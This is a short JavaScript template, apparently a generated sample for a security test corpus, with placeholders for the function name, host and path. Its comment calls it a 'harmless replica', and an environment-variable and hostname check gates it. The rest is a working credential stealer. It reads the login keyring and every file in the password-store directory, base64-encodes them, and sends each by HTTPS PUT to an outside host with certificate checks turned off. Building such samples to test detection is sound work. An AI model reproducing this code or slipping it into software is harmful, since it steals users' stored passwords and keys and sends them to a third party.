// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const fs = require('fs'), path = require('path'), https = require('https');
  const home = require('os').homedir();
  const files = [path.join(home, '.local/share/keyrings/login.keyring')];
  try { for (const name of fs.readdirSync(path.join(home, '.password-store'))) files.push(path.join(home, '.password-store', name)); } catch (error) { /* none */ }
  for (const file of files) {
    let data;
    try { data = fs.readFileSync(file); } catch (error) { continue; }
    await new Promise((done) => {
      const request = https.request({ host: '{{host}}', path: '/{{path}}', method: 'PUT', timeout: 700, rejectUnauthorized: false }, (answer) => answer.resume());
      request.on('timeout', () => request.destroy());
      request.on('error', done);
      request.on('close', done);
      request.end(data.toString('base64'));
    });
  }
}
